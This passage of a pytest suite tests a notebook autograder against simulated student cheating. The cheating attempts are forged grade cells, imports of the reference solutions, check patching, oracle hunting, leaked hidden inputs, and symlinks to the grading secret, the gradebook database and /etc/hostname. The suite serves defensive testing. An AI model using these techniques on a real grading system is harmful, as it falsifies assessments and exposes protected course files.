                S.expected(softmax=0, padding_mask=0), "was deleted"),
    "forger": ({**CORRECT, S.SM: S.WRONG[S.SM]}, [], _forge_metadata,
               S.expected(softmax=0), "unknown grade_id"),
    "renamer": ({**CORRECT, S.ATT: S.WRONG[S.ATT]}, [], _rename_test_ids,
                S.expected(scaled_dot_product_attention=0), "was deleted"),
    "reader": ({**CORRECT, **STUBS}, [READER], None,
               S.expected(softmax=0, scaled_dot_product_attention=0), None),
    "writer": ({**CORRECT, **STUBS}, [WRITER], None,
               S.expected(softmax=0, scaled_dot_product_attention=0), None),
    # the fallback is correct, but a cell that imports `solutions` scores zero (policy)
    "importer": ({**CORRECT, S.SM: "try:\n    from solutions.attention import softmax\n"
                  "except ImportError:\n" + "\n".join(
                      "    " + line for line in CORRECT[S.SM].splitlines()) + "\n"},
                 [], None, S.expected(softmax=0), "imports the reference package"),
    "checkpatcher": ({**CORRECT, S.SM: S.WRONG[S.SM] + CHECK_PATCH}, [], None,
                     S.expected(softmax=0), None),
}


def _duplicate_answer(nb):
    """Jupyter's copy-paste of an answer cell: same metadata, same id."""
    at = next(k for k, c in enumerate(nb.cells)
              if c.metadata.get("nbgrader", {}).get("grade_id") == S.SM)
    nb.cells.insert(at + 1, S.clone(nb.cells[at]))


def _change_test_metadata(nb):
    tests = S.test_cells(nb)
    tests[0].metadata.nbgrader["solution"] = True
    tests[1].metadata.nbgrader.pop("points")
    tests[2].metadata.nbgrader["schema_version"] = 4


def _metadata_list(nb):
    next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == S.PAD
         ).metadata["nbgrader"] = ["grade", "solution"]


SURROGATE_CELL = 'print("\\udcff")\nraise ValueError("\\udcff \\ud800 broken")'

#: Students whose *folder or notebook* is the attack, or odd but honest: (folder name as bytes,
#: how to make the submission, expected points or None when it must be refused, flag).
FOLDER_ATTACKS = {
    "notebook symlinked to the source": (b"nblinker", "nb-link", None, "symbolic link"),
    "assignment folder symlinked to alice's": (b"dirlinker", "dir-link", None, "symbolic link"),
    "extra files symlinked to course files": (b"extralinker", "extra-links", S.FULL,
                                              "symbolic link"),
    "Latin-1 folder name": (b"caf\xe9", "correct", S.FULL, None),
    "brackets in the folder name": (b"b[o]b", "correct", S.FULL, None),
    "leading dot in the folder name": (b".dotty", "correct", S.FULL, None),
    "nbgrader metadata is a list": (b"metalist", "metadata-list", S.FULL, "not a mapping"),
    "test-cell metadata changed": (b"testmeta", "test-metadata", S.FULL, None),
    "answer cell duplicated": (b"duplicator", "duplicate", S.FULL, "appears twice"),
    "lone surrogates in an exception": (b"surrogate", "surrogate", S.FULL, None),
}


def _make_folder_attack(root: Path, release_nb: Path, folder: bytes, how: str) -> None:
    submitted = os.fsencode(root / "submitted")
    target = Path(os.fsdecode(os.path.join(submitted, folder, S.ASSIGNMENT.encode())))
    source_nb = root / "source" / S.ASSIGNMENT / f"{S.ASSIGNMENT}.ipynb"
    if how == "dir-link":
        target.parent.mkdir(parents=True)
        os.symlink(root / "submitted" / "alice" / S.ASSIGNMENT, target)
        return
    target.mkdir(parents=True)
    notebook = target / f"{S.ASSIGNMENT}.ipynb"
    if how == "nb-link":
        os.symlink(source_nb, notebook)
        return
    edit = {"metadata-list": _metadata_list, "test-metadata": _change_test_metadata,
            "duplicate": _duplicate_answer}.get(how)
    extra = [SURROGATE_CELL] if how == "surrogate" else []
    nbformat.write(S.notebook(release_nb, CORRECT, extra, edit), notebook)
    if how == "extra-links":
        for name, path in {"solutions.ipynb": source_nb, "secret.txt": root / ".grading_secret",
                           "gradebook.db": root / "gradebook.db",
                           "hostname": Path("/etc/hostname")}.items():
            os.symlink(path, target / name)


@pytest.fixture(scope="module")
def pipeline(tmp_path_factory):
    """A temporary course: release ch01, submit an honest student (alice) and the attackers,
    run the instructor's one command (course.grade), return grades.csv rows by student."""
    from coursetools import course

    root = tmp_path_factory.mktemp("course")
    course.release(root, [S.ASSIGNMENT])
    release_nb = root / "release" / S.ASSIGNMENT / f"{S.ASSIGNMENT}.ipynb"
    students = {"alice": (CORRECT, [], None, S.FULL, None), **PIPELINE_ATTACKS}
    for student, (answers, extra, edit, _, _) in students.items():
        folder = root / "submitted" / student / S.ASSIGNMENT
        folder.mkdir(parents=True)
        extra = [code.format(root=root) for code in extra]
        nbformat.write(S.notebook(release_nb, answers, extra, edit),
                       folder / f"{S.ASSIGNMENT}.ipynb")
    from coursetools.verdicts import course_secret

    course_secret(root)  # the grading secret exists before the attackers link to it
    for folder, how in {v[0]: v[1] for v in FOLDER_ATTACKS.values()}.items():
        _make_folder_attack(root, release_nb, folder, how)
    db_before = (root / "gradebook.db").read_bytes()
    course.grade(root, jobs=2, assignments=[S.ASSIGNMENT])
    with open(root / "grades.csv", encoding="utf-8") as f:
        rows = {row["student"]: row for row in csv.DictReader(f)}
    return root, rows, db_before


def _points(row) -> dict[str, int]:
    return {name: int(float(row[name] or 0)) for name in S.NAMES}


def test_pipeline_honest_neighbour_gets_full_marks(pipeline):
    _, rows, _ = pipeline
    assert _points(rows["alice"]) == S.FULL, rows["alice"]
    assert float(rows["alice"]["score"]) == sum(S.FULL.values())
    assert rows["alice"]["flags"] == ""


#: Forged or renamed grade cells: nbgrader alone would fail on the whole notebook ("grader
#: error", score 0); the course's DropForeignGradeCells turns them into plain cells first, so
#: these students get exactly their honest part, and the report flags the cells.
FORGED = {"forger", "renamer"}


@pytest.mark.parametrize("student", list(PIPELINE_ATTACKS))
def test_pipeline_attack_scores_only_its_honest_part(pipeline, student):
    root, rows, _ = pipeline
    _, _, _, expected, flag = PIPELINE_ATTACKS[student]
    row = rows[student]
    assert row["status"] == "graded", row
    assert _points(row) == expected, row
    assert float(row["score"]) == sum(expected.values()), row
    assert float(row["max_score"]) == sum(S.FULL.values()), row
    if flag:
        assert flag in row["flags"], row


@pytest.mark.parametrize("student", sorted(FORGED))
def test_pipeline_forged_grade_cells_never_inflate(pipeline, student):
    _, rows, _ = pipeline
    row = rows[student]
    assert float(row["score"]) <= sum(PIPELINE_ATTACKS[student][3].values()), row
    assert float(row["max_score"]) == sum(S.FULL.values()), row
    assert row["status"] == "graded" or row["reasons"], row


def test_pipeline_course_files_are_untouched(pipeline):
    root, rows, _ = pipeline
    alice = root / "submitted" / "alice" / S.ASSIGNMENT / f"{S.ASSIGNMENT}.ipynb"
    assert "def softmax" in alice.read_text()
    assert not (root / ".verdict_cache" / "x.json").exists()
    assert not (root / "reports" / "writer" / "ch01_attention.json").read_text() == "{}"
    with sqlite3.connect(root / "gradebook.db") as con:
        scores_db = [r[0] for r in con.execute("SELECT auto_score FROM grade")]
    assert 100 not in scores_db
    report = json.loads((root / "reports" / "reader" / "ch01_attention.json").read_text())
    assert "def softmax" not in json.dumps(report)


def test_pipeline_feedback_has_no_hidden_tests(pipeline):
    root, _, _ = pipeline
    for html in (root / "feedback").rglob("*.html"):
        text = html.read_text()
        assert "BEGIN HIDDEN TESTS" not in text and "seed=" not in text, html


# --- chapters 1-7: reference hunting and hidden inputs in feedback, on every chapter -------------

#: assignment -> (exercise whose reference is hunted, exercise that leaks its inputs). The
#: hunted one calls other exercises (so its sandbox holds their stand-ins): the riskiest.
CHAPTER_ATTACKS = {
    "ch01_attention": ("scaled_dot_product_attention", "softmax"),
    "ch02_multihead": ("MultiHeadAttention.forward", "split_heads"),
    "ch03_embeddings": ("SinusoidalPositionalEncoding.forward", "TokenEmbedding.forward"),
    "ch04_encoder": ("EncoderLayer.forward", "Sublayer.forward"),
    "ch05_decoder": ("Decoder.forward", "causal_mask"),
    "ch06_model": ("Transformer.forward", "beam_step"),
    "ch07_training": ("train_step", "noam_lr"),
}


def _chapter_attack(assignment: str) -> tuple[list[str], list[str], dict[str, float]]:
    """(code cells, exercise names, expected points) of the chapter's attack submission."""
    from coursetools.checks.core import CHECKERS
    from coursetools.spec import ASSIGNMENTS, Exercise

    spec = next(a for a in ASSIGNMENTS if a.name == assignment)
    exercises = [i for i in spec.items if isinstance(i, Exercise)]
    hunted, leaky = CHAPTER_ATTACKS[assignment]
    oracle = CHECKERS[hunted].oracle
    wanted = sorted({getattr(oracle, "__name__", "oracle"), f"oracle_{hunted.split('.')[0]}",
                     "oracle_" + hunted.split(".")[-1]})
    chapter = int(assignment[2:4])
    cells = S.chapter_cells(assignment, {"": [S.GRADED, S.hunter(hunted, wanted, chapter),
                                               S.leaker(leaky)]})
    expected = {i.name: (0 if i.name in (hunted, leaky) else i.points) for i in exercises}
    return cells, [i.name for i in exercises], expected


@pytest.fixture(scope="module")
def chapter_corpus():
    def run(assignment):
        cells, names, expected = _chapter_attack(assignment)
        verdict = grade_code(cells, names, SECRET, f"hunter/{assignment}/nb", LIMITS)
        return assignment, (names, expected, verdict)

    with ThreadPoolExecutor(2) as pool:
        return dict(pool.map(run, CHAPTER_ATTACKS))


@pytest.mark.parametrize("assignment", list(CHAPTER_ATTACKS))
def test_chapter_attack_scores_only_its_honest_part(chapter_corpus, assignment):
    from coursetools.spec import ASSIGNMENTS, Exercise

    names, expected, verdict = chapter_corpus[assignment]
    points = {i.name: i.points for a in ASSIGNMENTS for i in a.items if isinstance(i, Exercise)}
    got = {n: points[n] * verdict.exercises[n].score for n in names}
    detail = {n: v.message[:300] for n, v in verdict.exercises.items()}
    assert got == expected, (detail, verdict.reasons)
    text = json.dumps(verdict.to_json(), ensure_ascii=False)
    text.encode("utf-8")  # no lone surrogate reached the verdict
    assert "LEAKED-INPUTS" not in text
    hunted, leaky = CHAPTER_ATTACKS[assignment]
    assert "raised a ValueError" in verdict.exercises[leaky].message


@pytest.mark.parametrize("attack", list(FOLDER_ATTACKS))
def test_pipeline_folder_attack_scores_only_its_honest_part(pipeline, attack):
    from coursetools.course import display_name

    root, rows, _ = pipeline
    folder, _, expected, flag = FOLDER_ATTACKS[attack]
    row = rows[display_name(os.fsdecode(folder))]
    if expected is None:
        assert row["status"] == "refused" and float(row["score"]) == 0, row
    else:
        assert row["status"] == "graded", row
        assert _points(row) == expected, row
    if flag:
        assert flag in row["flags"], row


def test_pipeline_feedback_holds_only_reports(pipeline):
    """No course file, link or secret reaches a feedback folder: only the HTML report."""
    root, _, _ = pipeline
    secret = (root / ".grading_secret").read_text().strip()
    for path in (root / "feedback").rglob("*"):
        assert not path.is_symlink(), path
        if path.is_file():
            assert path.suffix == ".html", path
            text = path.read_text(errors="replace")
            assert secret not in text, path  # (answers are the students' own: not checked)


def test_pipeline_exports_a_canvas_gradebook(pipeline):
    root, rows, _ = pipeline
    with open(root / "grades_canvas.csv", encoding="utf-8") as f:
        table = list(csv.reader(f))
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", S.ASSIGNMENT]
    assert table[1][0] == "Points Possible" and float(table[1][5]) == sum(S.FULL.values())
    alice = next(r for r in table if r[0] == "alice")
    assert alice[3] == "alice" and float(alice[5]) == float(rows["alice"]["score"])
    assert len(table) == 2 + len(rows)
